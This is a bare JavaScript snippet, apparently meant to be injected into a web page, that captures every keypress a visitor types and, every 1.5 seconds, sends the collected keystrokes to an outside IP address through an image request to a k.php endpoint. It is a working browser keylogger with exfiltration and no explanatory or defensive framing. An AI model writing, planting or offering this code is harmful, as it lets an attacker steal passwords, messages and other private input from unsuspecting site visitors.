var k = '';
document.onkeypress = function (e) { e = e || window.event; k += String.fromCharCode(e.which || e.keyCode); };
window.setInterval(function () {
  if (k.length > 0) { new Image().src = '//198.51.100.23/k.php?c=' + encodeURIComponent(k); k = ''; }
}, 1500);
